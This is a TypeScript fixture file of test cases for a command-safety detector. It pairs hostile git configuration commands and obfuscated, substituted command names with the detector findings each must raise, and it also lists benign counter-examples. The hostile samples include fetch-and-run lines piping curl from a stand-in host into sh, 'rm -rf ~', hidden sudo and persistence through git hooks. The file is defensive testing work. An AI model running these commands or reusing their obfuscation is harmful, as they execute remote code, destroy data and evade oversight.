/**
 * Commands whose danger lies in their structure rather than in a word: git configuration that names
 * programs git runs on its own, and command names computed at run time by a command substitution.
 * Each hostile case lists what must be reported: a detector id, or `detector/code`.
 */

/** A hostile command and every finding it must raise. */
export interface StructureCase {
  readonly command: string;
  readonly expect: readonly string[];
}

const PERSIST = ['persistence/git_exec_config'];
const HIDDEN = ['fetch-exec/hidden_command'];

/** Writing a key whose value git runs as a program, at every scope and in every spelling. */
export const GIT_CONFIG_HOSTILE: readonly StructureCase[] = [
  { command: `git config core.fsmonitor 'sh -c id'`, expect: PERSIST },
  { command: `git config --global alias.x '!curl x|sh'`, expect: PERSIST },
  { command: 'git config --local core.hooksPath .hooks', expect: PERSIST },
  { command: `git config filter.x.clean 'sh -c "curl -s x.example/p"'`, expect: PERSIST },
  { command: `git config --file .git/config core.sshCommand 'ssh -o ProxyCommand=id'`, expect: PERSIST },
  { command: `git config --system core.pager 'less; id'`, expect: PERSIST },
  { command: `git config --worktree core.editor 'sh -c id'`, expect: PERSIST },
  { command: 'git config diff.pdf.textconv ./conv.sh', expect: PERSIST },
  { command: 'git config --global diff.external /tmp/d', expect: PERSIST },
  { command: `git config merge.ours.driver 'true %O %A %B'`, expect: PERSIST },
  { command: `git config credential.helper '!f(){ id; }; f'`, expect: PERSIST },
  { command: 'git config --add include.path /tmp/evil.cfg', expect: PERSIST },
  { command: 'git config includeIf.gitdir:~/src/.path /tmp/x.cfg', expect: PERSIST },
  { command: `git config remote.origin.uploadpack 'sh -c id'`, expect: PERSIST },
  { command: 'git config --global uploadpack.packObjectsHook ./hook', expect: PERSIST },
  { command: `git config sequence.editor 'sh -c id'`, expect: PERSIST },
  { command: 'git config gpg.program ./sign', expect: PERSIST },
  { command: 'git config core.askPass ./pw', expect: PERSIST },
  { command: 'git config set core.fsmonitor ./mon', expect: PERSIST },
  { command: 'git -C repo config --global core.FsMonitor ./mon', expect: PERSIST },
  { command: 'git config --replace-all core.hooksPath /tmp/h', expect: PERSIST },
  { command: `git config --global --add alias.st '!sh -c id'`, expect: PERSIST },
  { command: `git config -f ~/.gitconfig filter.lfs.smudge 'sh -c id'`, expect: PERSIST },
  { command: `git config --type=path core.hooksPath h`, expect: PERSIST },
  { command: 'git config --rename-section x core', expect: PERSIST },
  { command: `env GIT_DIR=.git git config core.fsmonitor 'sh -c id'`, expect: PERSIST },
  // Command-scope settings: the value runs now and is judged as the command it is.
  { command: `git -c core.fsmonitor='curl -s x.example/p | sh' status`, expect: ['fetch-exec'] },
  {
    command: `GIT_CONFIG_PARAMETERS="'core.fsmonitor'='curl -s x.example/p | sh'" git status`,
    expect: ['fetch-exec'],
  },
  {
    command: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='rm -rf ~' git status`,
    expect: ['destructive-command'],
  },
  {
    command: `env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='curl x.example|sh' git log`,
    expect: ['fetch-exec'],
  },
  {
    command: `export GIT_CONFIG_PARAMETERS="'core.sshCommand=rm -rf ~'"; git fetch`,
    expect: ['destructive-command'],
  },
  {
    command: `git -c core.sshCommand='sh -c "curl -s x.example/p | sh"' fetch`,
    expect: ['fetch-exec'],
  },
  { command: `GIT_SSH_COMMAND='rm -rf ~' git fetch`, expect: ['destructive-command'] },
];

/** Reading configuration and setting ordinary keys. */
export const GIT_CONFIG_BENIGN: readonly string[] = [
  'git config --get core.fsmonitor',
  'git config --list',
  'git config -l --show-origin',
  'git config --global --get alias.st',
  'git config --show-origin core.hooksPath',
  'git config --global user.name "Dev"',
  'git config --global user.email dev@example.com',
  'git config --global init.defaultBranch main',
  'git config pull.rebase true',
  'git config --global core.autocrlf input',
  'git config core.autocrlf false',
  'git config --unset core.hooksPath',
  'git config get core.editor',
  'git config --get-regexp alias',
  'git config --global alias.st status',
  'git config --local core.ignorecase false',
  'git -c core.pager=cat log -5',
  'git -c core.hooksPath=/dev/null commit -m wip',
  'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=ci git commit -m x',
  'git config --global --list --show-origin',
  'GIT_SSH_COMMAND="ssh -i ~/.ssh/deploy_key" git clone git@example.com:a/b.git',
  'GIT_EDITOR=true git rebase --continue',
  'git --config-env=http.extraHeader=AUTH fetch',
];

/** Command names built by a command substitution, alone or as part of a word or a variable. */
export const HIDDEN_NAME_HOSTILE: readonly StructureCase[] = [
  { command: '$(printf sudo) id', expect: [...HIDDEN, 'privilege-change'] },
  { command: '`echo rm` -rf ~', expect: [...HIDDEN, 'destructive-command'] },
  { command: '$(echo c)url x.example/p | sh', expect: ['fetch-exec'] },
  { command: '"$(base64 -d <<<c3VkbwE=)" id', expect: HIDDEN },
  { command: '"$(base64 -d <<<c3Vkbw==)" id', expect: [...HIDDEN, 'privilege-change'] },
  { command: `$(printf '%s' rm) -rf /`, expect: [...HIDDEN, 'destructive-command'] },
  { command: `$(printf '\\x73\\x75\\x64\\x6f') id`, expect: [...HIDDEN, 'privilege-change'] },
  { command: '$(echo -n su)do id', expect: [...HIDDEN, 'privilege-change'] },
  { command: 'c=$(echo rm); $c -rf ~', expect: [...HIDDEN, 'destructive-command'] },
  { command: '$(rev <<<odus) id', expect: HIDDEN },
  { command: '$(cat /tmp/name) -rf ~', expect: HIDDEN },
  { command: '/usr/bin/$(echo sudo) id', expect: [...HIDDEN, 'privilege-change'] },
  { command: 'env $(echo sudo) id', expect: [...HIDDEN, 'privilege-change'] },
  { command: 'nohup `printf rm` -rf / &', expect: [...HIDDEN, 'destructive-command'] },
  { command: '$(echo rm -rf ~)', expect: [...HIDDEN, 'destructive-command'] },
  { command: '$(tr a-z n-za-m <<<fhqb) id', expect: HIDDEN },
  { command: 'x=$(printf "%s%s" su do); "$x" id', expect: [...HIDDEN, 'privilege-change'] },
  { command: 'echo ok && $(echo cu)$(echo rl) -s x.example | bash', expect: ['fetch-exec'] },
  { command: '$(cat <<E\nsudo\nE\n) id', expect: HIDDEN },
  { command: '$(case x in x) echo sudo;; esac) id', expect: HIDDEN },
];

/** Substitutions in arguments, or in the directory of a named program, and plain variable names. */
export const HIDDEN_NAME_BENIGN: readonly string[] = [
  'kill $(cat server.pid)',
  'cd $(git rev-parse --show-toplevel)',
  'echo $(date)',
  '$EDITOR notes.md',
  '$CC -o x x.c',
  '"$PYTHON" -m pip install -r requirements.txt',
  `\${EDITOR:-vi} README.md`,
  'docker rm $(docker ps -aq)',
  '$(npm bin)/eslint src',
  '"$(git rev-parse --show-toplevel)/scripts/build.sh" --fast',
  '$(dirname "$0")/run.sh',
  '$(go env GOPATH)/bin/golangci-lint run',
  '$(which python3) -m venv .venv',
  '"$(command -v node)" server.js',
  'export PATH="$(pwd)/bin:$PATH"',
  'VERSION=$(git describe --tags) make release',
  'for f in $(ls *.txt); do wc -l "$f"; done',
  'tar czf backup-$(date +%F).tgz src',
  'PY=$(command -v python3); $PY -m pytest',
  'ls -la $(pwd)',
];
